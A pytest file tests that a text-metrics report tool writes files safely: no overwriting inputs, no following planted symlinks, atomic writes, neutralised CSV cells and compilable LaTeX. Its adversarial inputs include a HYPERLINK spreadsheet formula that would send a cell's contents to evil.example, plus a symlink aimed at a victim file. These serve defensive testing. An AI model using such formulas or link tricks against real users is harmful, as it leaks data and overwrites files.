"""What ``nlgmetrics report`` writes: never an input, never through a link, all or nothing;
CSV exports that a spreadsheet opens safely; LaTeX exports that compile; plots whose text
is literal; the report's flags that apply to one kind of report only.

The LaTeX test runs pdflatex (Debian's texlive-latex-base + texlive-latex-recommended,
installed by scripts/test.sh); outside CI it is skipped when pdflatex is absent, in CI
(NLGMETRICS_REQUIRE_PDFLATEX=1) it fails instead.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from nlgmetrics.cli.main import main
from nlgmetrics.report.export import exports_of

pytest.importorskip("matplotlib")

N = 24
ADVERSARIAL_TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1, "click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB first", "[x] starts with a bracket",
    "$x^2$ and 50% & #1 {a}_b ~ \\textbf{no}", "中文 句子 。", "naïve café — “quoted” −1 ≤ 2", "a\rcarriage return inside",
]
SYSTEM_FILES = ["[base]$1.txt", "sys_2%&#.txt", "sys{3}~^.txt"]
NAMES = ["[base]$x^$", "a_b^c\\d$\\bad$", "中文−sys"]  # invalid mathtext: drawn as mathtext, they raise


def _lines(i: int, variant: int) -> list[str]:
    base = [f"the cat number {k} sat on the mat" for k in range(N)]
    out = []
    for k, line in enumerate(base):
        if k < len(ADVERSARIAL_TEXTS):
            line = ADVERSARIAL_TEXTS[(k + variant) % len(ADVERSARIAL_TEXTS)]
        elif (k + variant) % 3 == 0:
            line = line.replace("cat", "dog")
        out.append(line)
    return out


@pytest.fixture()
def adversarial(tmp_path):
    d = tmp_path / "in"
    d.mkdir()
    (d / "ref.txt").write_text("\n".join(_lines(0, 0)) + "\n", encoding="utf-8", newline="")
    for i, name in enumerate(SYSTEM_FILES):
        (d / name).write_text("\n".join(_lines(i, i + 1)) + "\n", encoding="utf-8", newline="")
    return d


def _report(d: Path, *extra: str, names: bool = False) -> list[str]:
    argv = ["report", "-r", str(d / "ref.txt"), "-i", *[str(d / f) for f in SYSTEM_FILES], "-m", "bleu", "chrf", "-cin", "20", "-q"]
    if names:
        argv += ["--names", *NAMES]
    return argv + list(extra)


def _run(argv, capsys) -> tuple[int, str, str]:
    code = main(argv)
    out = capsys.readouterr()
    return code, out.out, out.err


def _snapshot(d: Path) -> dict[str, bytes]:
    return {str(p.relative_to(d)): (p.read_bytes() if not p.is_symlink() else b"->" + os.readlink(p).encode())
            for p in sorted(d.rglob("*")) if p.is_file() or p.is_symlink()}


def _one_line_error(code: int, err: str, want: int = 2) -> None:
    assert code == want, err
    assert err.count("\n") == 1 and err.startswith("nlgmetrics: error: ") and "Traceback" not in err, err


# -- outputs never destroy inputs ------------------------------------------------------
def test_output_naming_an_input_is_refused_in_every_spelling(adversarial, tmp_path, capsys):
    d = adversarial
    before = _snapshot(d)
    (tmp_path / "link-to-ref").symlink_to(d / "ref.txt")
    os.link(d / SYSTEM_FILES[1], tmp_path / "hard-link")
    spellings = [str(d / "ref.txt"), str(d / "." / "ref.txt"), str(tmp_path / "link-to-ref"), str(tmp_path / "hard-link"),
                 str(d / SYSTEM_FILES[0]), os.path.relpath(d / "ref.txt")]
    for target in spellings:
        code, _, err = _run(_report(d, "-o", target), capsys)
        _one_line_error(code, err)
        assert "input" in err
    for target in spellings[:2]:  # an export directory whose files would land on an input is refused too
        code, _, err = _run(_report(d, "-o", str(tmp_path / "r.html"), "--export-dir", target), capsys)
        _one_line_error(code, err)
    assert _snapshot(d) == before and not (tmp_path / "r.html").exists()


def test_classification_output_naming_an_input_is_refused(tmp_path, capsys):
    (tmp_path / "y.txt").write_text("0\n1\n0\n1\n")
    (tmp_path / "s.txt").write_text("0.1\n0.9\n0.4\n0.6\n")
    before = _snapshot(tmp_path)
    for target in ("y.txt", "s.txt"):
        code, _, err = _run(["report", "--labels", str(tmp_path / "y.txt"), "--scores", str(tmp_path / "s.txt"), "-cin", "10", "-o", str(tmp_path / target)], capsys)
        _one_line_error(code, err)
    assert _snapshot(tmp_path) == before


def test_export_dir_never_follows_a_planted_link(adversarial, tmp_path, capsys):
    d = adversarial
    out = tmp_path / "tables"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (out / "segments.csv").symlink_to(victim)
    code, _, err = _run(_report(d, "-o", str(tmp_path / "r.html"), "--export-dir", str(out)), capsys)
    _one_line_error(code, err)
    assert "symbolic link" in err
    assert victim.read_text() == "precious\n" and sorted(p.name for p in out.iterdir()) == ["segments.csv"]
    assert not (tmp_path / "r.html").exists()  # nothing at all was written
    # --overwrite replaces the link itself, never its target
    code, _, err = _run(_report(d, "-o", str(tmp_path / "r.html"), "--export-dir", str(out), "--overwrite"), capsys)
    assert code == 0, err
    assert victim.read_text() == "precious\n" and not (out / "segments.csv").is_symlink()
    assert (out / "segments.csv").read_bytes() == exports_of((tmp_path / "r.html").read_text(encoding="utf-8"))["segments.csv"]


def test_existing_files_are_replaced_only_when_nlgmetrics_wrote_them(adversarial, tmp_path, capsys):
    d = adversarial
    out, page = tmp_path / "tables", tmp_path / "r.html"
    code, _, err = _run(_report(d, "-o", str(page), "--export-dir", str(out)), capsys)
    assert code == 0, err
    first = _snapshot(out)
    # a re-run replaces its own files (report page and exports)
    code, _, err = _run(_report(d, "-o", str(page), "--export-dir", str(out), "--title", "again"), capsys)
    assert code == 0, err and "again" in page.read_text(encoding="utf-8")
    # a file the user edited since, or put there, is kept
    (out / "segments.csv").write_text("my notes\n")
    code, _, err = _run(_report(d, "-o", str(page), "--export-dir", str(out)), capsys)
    _one_line_error(code, err)
    assert "--overwrite" in err and (out / "segments.csv").read_text() == "my notes\n"
    notes = tmp_path / "notes.html"
    notes.write_text("<p>mine</p>\n")
    code, _, err = _run(_report(d, "-o", str(notes)), capsys)
    _one_line_error(code, err)
    assert notes.read_text() == "<p>mine</p>\n"
    code, _, err = _run(_report(d, "-o", str(notes), "--export-dir", str(out), "--overwrite"), capsys)
    assert code == 0, err
    assert (out / "segments.csv").read_bytes() == first["segments.csv"] and "nlgmetrics report" in notes.read_text(encoding="utf-8")


def test_a_bad_output_fails_before_anything_is_written(adversarial, tmp_path, capsys):
    d = adversarial
    out = tmp_path / "tables"
    for bad in (str(tmp_path / "no-such-dir" / "r.html"), str(tmp_path)):
        code, _, err = _run(_report(d, "-o", bad, "--export-dir", str(out)), capsys)
        _one_line_error(code, err)
        assert not out.exists()
    (tmp_path / "a-file").write_text("x")
    code, _, err = _run(_report(d, "-o", str(tmp_path / "r.html"), "--export-dir", str(tmp_path / "a-file")), capsys)
    _one_line_error(code, err)
    assert not (tmp_path / "r.html").exists()


def _refuse_mkdir(monkeypatch, outputs, where):
    real = os.mkdir

    def refuse(path, *a, **k):
        if str(path).startswith(where):
            raise PermissionError(13, "Permission denied", str(path))
        return real(path, *a, **k)

    monkeypatch.setattr(outputs.os, "mkdir", refuse)


def _refuse_temporaries(monkeypatch, outputs, where):
    real = outputs.tempfile.mkstemp

    def refuse(*a, dir=None, **k):
        if str(dir).startswith(where):
            raise PermissionError(13, "Permission denied", str(dir))
        return real(*a, dir=dir, **k)

    monkeypatch.setattr(outputs.tempfile, "mkstemp", refuse)


@pytest.mark.parametrize("why", ["read-only filesystem", "parent not writable", "directory not writable", "page not writable"])
def test_an_output_that_cannot_be_written_fails_before_anything_is_written(adversarial, tmp_path, capsys, monkeypatch, why):
    """The page and every export are all written or none: exit 1, one line, the old page kept,
    no directory made, no temporary file left."""
    from nlgmetrics.cli import outputs

    d = adversarial
    page, tables = tmp_path / "r.html", tmp_path / "tables"
    assert _run(_report(d, "-o", str(page)), capsys)[0] == 0
    if why == "read-only filesystem":
        if not os.path.isdir("/proc/self"):
            pytest.skip("needs /proc")
        tables = Path("/proc/nlgmetrics-tables")
    elif why == "parent not writable":
        _refuse_mkdir(monkeypatch, outputs, str(tables))
    elif why == "directory not writable":
        tables.mkdir()
        _refuse_temporaries(monkeypatch, outputs, str(tables))
    else:
        page = tmp_path / "locked" / "r.html"  # the exports' directory is fine, the page's is not
        page.parent.mkdir()
        _refuse_temporaries(monkeypatch, outputs, str(page.parent))
    before = _snapshot(tmp_path)
    code, _, err = _run(_report(d, "-o", str(page), "--export-dir", str(tables), "--title", "new"), capsys)
    _one_line_error(code, err, want=1)
    assert str(tables if why != "page not writable" else page.parent) in err
    assert _snapshot(tmp_path) == before
    assert (why == "directory not writable") == tables.is_dir() and not any(tables.iterdir() if tables.is_dir() else ())


def test_a_page_that_is_one_of_the_exports_is_refused(adversarial, tmp_path, capsys):
    d, tables = adversarial, tmp_path / "tables"
    tables.mkdir()
    code, _, err = _run(_report(d, "-o", str(tables / "segments.csv"), "--export-dir", str(tables)), capsys)
    _one_line_error(code, err)
    assert "one of the --export-dir files" in err and not any(tables.iterdir())


def test_writes_are_atomic_and_leave_no_temporary_files(adversarial, tmp_path, capsys, monkeypatch):
    """A write that fails midway leaves the old file whole and no temporary file behind."""
    from nlgmetrics.cli import outputs

    d = adversarial
    page = tmp_path / "r.html"
    assert _run(_report(d, "-o", str(page)), capsys)[0] == 0
    old = page.read_bytes()
    real_replace = os.replace

    def failing_replace(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(outputs.os, "replace", failing_replace)
    code, _, err = _run(_report(d, "-o", str(page), "--title", "new"), capsys)
    _one_line_error(code, err, want=1)
    monkeypatch.setattr(outputs.os, "replace", real_replace)
    assert page.read_bytes() == old and sorted(p.name for p in tmp_path.iterdir()) == ["in", "r.html"]


# -- CSV -----------------------------------------------------------------------------
_FORMULA = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$|^[-+]?(inf|nan)$")


def test_csv_cells_are_neutralised_and_rows_survive_carriage_returns(adversarial, tmp_path, capsys):
    d = adversarial
    code, page, err = _run(_report(d, "-o", "-", names=True), capsys)
    assert code == 0, err
    files = exports_of(page)
    injected = 0
    for name, data in files.items():
        if not name.endswith(".csv"):
            continue
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
        width = len(rows[0])
        assert all(len(r) == width for r in rows), name  # a CR inside a segment never splits a row
        for row in rows:
            for cell in row:
                assert not cell.startswith(_FORMULA) or _NUMBER.match(cell), (name, cell)
                injected += cell.startswith("'=HYPERLINK")
    assert injected >= 1
    segments = list(csv.reader(io.StringIO(files["segments.csv"].decode("utf-8"), newline="")))
    assert len(segments) == N + 1
    texts = {c for r in segments for c in r}
    assert "a\rcarriage return inside" in texts and "TAB first" in texts and "'+1+2" in texts and "'-2+3" in texts


def test_csv_numbers_stay_numbers():
    from nlgmetrics.report.export import csv_cell, to_csv

    assert [csv_cell(v) for v in ("-0.5", "-1e-05", "+3", "-inf", "nan", "0.25")] == ["-0.5", "-1e-05", "+3", "-inf", "nan", "0.25"]
    assert [csv_cell(v) for v in ("-", "- a", "=1+1", "@x", "\tx", "\rx", "+")] == ["'-", "'- a", "'=1+1", "'@x", "'\tx", "'\rx", "'+"]
    text = to_csv([[("name", "name"), ("Δ", "Δ")], [("=cmd", "=cmd"), ("-0.50", "-0.5")]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name", "Δ"], ["'=cmd", "-0.5"]]


# -- LaTeX ---------------------------------------------------------------------------
def _pdflatex() -> str | None:
    found = shutil.which("pdflatex")
    if found is None and os.environ.get("NLGMETRICS_REQUIRE_PDFLATEX"):
        pytest.fail("pdflatex is required here (NLGMETRICS_REQUIRE_PDFLATEX=1): scripts/test.sh installs texlive-latex-base texlive-latex-recommended")
    if found is None:
        pytest.skip("pdflatex is not installed (Debian: texlive-latex-base texlive-latex-recommended; scripts/test.sh installs them)")
    return found


def _preamble(tex: str) -> str:
    """The packages the file's first line says it needs."""
    first = tex.splitlines()[0]
    assert first.startswith("%") and "needs" in first, first
    return "\n".join(re.findall(r"\\usepackage(?:\[[^\]]*\])?\{[^}]*\}", first))


def _compile_all(files: dict[str, bytes], work: Path, pdflatex: str) -> None:
    work.mkdir()
    failures = []
    for name, data in files.items():
        if not name.endswith(".tex"):
            continue
        tex = data.decode("utf-8")
        assert tex.isascii(), name
        (work / name).write_bytes(data)
        doc = work / f"doc-{name}"
        doc.write_text(f"\\documentclass{{article}}\n{_preamble(tex)}\n\\begin{{document}}\n\\input{{{name}}}\n\\end{{document}}\n")
        run = subprocess.run([pdflatex, "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", doc.name],
                             cwd=work, capture_output=True, text=True, errors="replace", timeout=120)
        if run.returncode != 0 or not (work / f"doc-{name[:-4]}.pdf").is_file():
            errors = [line for line in run.stdout.splitlines() if line.startswith("!")]
            failures.append(f"{name}: {errors[:3]}")
    assert not failures, "\n".join(failures)


def test_every_latex_export_compiles(adversarial, tmp_path, capsys):
    pdflatex = _pdflatex()
    d = adversarial
    code, page, err = _run(_report(d, "-o", "-", names=True), capsys)
    assert code == 0, err
    files = exports_of(page)
    assert sum(n.endswith(".tex") for n in files) >= 8
    _compile_all(files, tmp_path / "text", pdflatex)
    # the file names themselves (no --names) as the systems' names
    code, page, err = _run(_report(d, "-o", "-"), capsys)
    assert code == 0, err
    _compile_all(exports_of(page), tmp_path / "text-files", pdflatex)


def test_plain_wmt_report_latex_exports_compile(corpora, tmp_path, capsys):
    """The reported case: a plain WMT22 report (rows starting with [, U+2212 in headers)."""
    from test_significance_helpers import write_wmt_systems

    pdflatex = _pdflatex()
    d, names = write_wmt_systems(corpora, tmp_path, n_systems=3, n_segments=120)
    code, page, err = _run(["report", "-r", str(d / "ref.txt"), "-i", *[str(d / n) for n in names], "-m", "bleu", "chrf", "ter",
                            "-cin", "20", "-q", "-o", "-"], capsys)
    assert code == 0, err
    files = exports_of(page)
    assert sum(n.endswith(".tex") for n in files) >= 10
    _compile_all(files, tmp_path / "tex", pdflatex)


def test_classification_latex_exports_compile(tmp_path, capsys):
    pdflatex = _pdflatex()
    labels = ["$1", "a_b", "[c]", "中"] * 10
    (tmp_path / "y.txt").write_text("\n".join(labels) + "\n", encoding="utf-8")
    (tmp_path / "p.txt").write_text("\n".join(labels[1:] + labels[:1]) + "\n", encoding="utf-8")
    (tmp_path / "s.txt").write_text("\n".join(" ".join(str([0.125, 0.25, 0.5, 0.125][(i + k) % 4]) for k in range(4)) for i in range(len(labels))) + "\n")
    cls = ["report", "--labels", str(tmp_path / "y.txt"), "--scores", str(tmp_path / "s.txt"), "--predictions", str(tmp_path / "p.txt"),
           "--names", "$x^2_y\\z", "-cin", "10", "-o", "-"]
    code, page, err = _run(cls, capsys)
    assert code == 0, err
    _compile_all(exports_of(page), tmp_path / "tex", pdflatex)


def test_latex_escape_is_ascii_and_brackets_are_braced():
    from nlgmetrics.report.export import latex_escape, to_latex

    assert latex_escape("[a]") == "{[}a{]}" and latex_escape("−1") == "$-$1" and latex_escape("é") == "\\'{e}"
    assert latex_escape("中") == r"\texttt{U+4E2D}"
    tex = to_latex([[("[sys]", "[sys]"), ("−Δ", "−Δ")], [("[x]", "[x]"), ("1", "1")]], title="a\nb % c")
    assert tex.isascii() and "\n\\midrule\n{[}x{]} & 1 \\\\" in tex and tex.splitlines()[0].startswith(r"% a b \% c")


# -- plots: text is literal ----------------------------------------------------------
def test_report_with_mathtext_names_renders(adversarial, capsys):
    code, page, err = _run(_report(adversarial, "-o", "-", names=True), capsys)
    assert code == 0, err
    assert "[base]$x^$" in page and "a_b^c\\d$\\bad$" in page


def test_classification_report_with_mathtext_labels_and_names_renders(tmp_path, capsys):
    labels = ["$a^$", "b_c", "d^e", "f\\g$\\bad$"] * 12
    (tmp_path / "y.txt").write_text("\n".join(labels) + "\n")
    (tmp_path / "p.txt").write_text("\n".join(labels[2:] + labels[:2]) + "\n")
    (tmp_path / "s.txt").write_text("\n".join(" ".join(str([0.125, 0.25, 0.5, 0.125][(i * 3 + k) % 4]) for k in range(4)) for i in range(len(labels))) + "\n")
    code, page, err = _run(["report", "--labels", str(tmp_path / "y.txt"), "--scores", str(tmp_path / "s.txt"), "--predictions", str(tmp_path / "p.txt"),
                            "--names", "$clf_$", "-cin", "10", "-o", "-"], capsys)
    assert code == 0, err
    assert "$clf_$" in page and "$a^$" in page


def test_plot_functions_draw_dollar_signs_literally():
    import numpy as np

    from nlgmetrics.report import plots

    names = ["$x", "a$b^$c", "x^2_y", "back\\slash", "$\\frac{1}$"]
    fig, ax = plots.system_bars(names, [1.0, 2.0, 3.0, 4.0, 5.0], [0.5, 1.5, 2.5, 3.5, 4.5], [1.5, 2.5, 3.5, 4.5, 5.5], metric="$BLEU_")
    buf = io.BytesIO()
    fig.savefig(buf, format="png")  # a user's own savefig, outside to_png: mathtext would raise here
    svg = plots.to_svg(fig)
    assert "a$b^$c" in svg and "$\\frac{1}$" in svg
    fig, _ = plots.confusion_matrix(np.array([[1, 2], [3, 4]]), ["$a_$", "$b"], title="$t^$")
    plots.to_png(fig)
    fig, _ = plots.segment_histogram({"$s_$": [0.1, 0.2, 0.3], "t_$": [0.2, 0.4]}, metric="$m")
    assert "$s_$" in plots.to_svg(fig)


# -- flags that belong to one kind of report -----------------------------------------
def test_method_is_a_usage_error_for_a_classification_report(tmp_path, capsys):
    (tmp_path / "y.txt").write_text("0\n1\n0\n1\n")
    (tmp_path / "s.txt").write_text("0.1\n0.9\n0.4\n0.6\n")
    base = ["report", "--labels", str(tmp_path / "y.txt"), "--scores", str(tmp_path / "s.txt"), "-cin", "10", "-o", str(tmp_path / "c.html")]
    code, _, err = _run([*base, "--method", "sacrebleu"], capsys)
    _one_line_error(code, err)
    assert "--method" in err and not (tmp_path / "c.html").exists()
    code, _, err = _run([*base, "--names", "a", "b"], capsys)
    _one_line_error(code, err)
    code, _, err = _run([*base, "--names", "logistic"], capsys)
    assert code == 0, err
    assert ">logistic<" in (tmp_path / "c.html").read_text(encoding="utf-8")
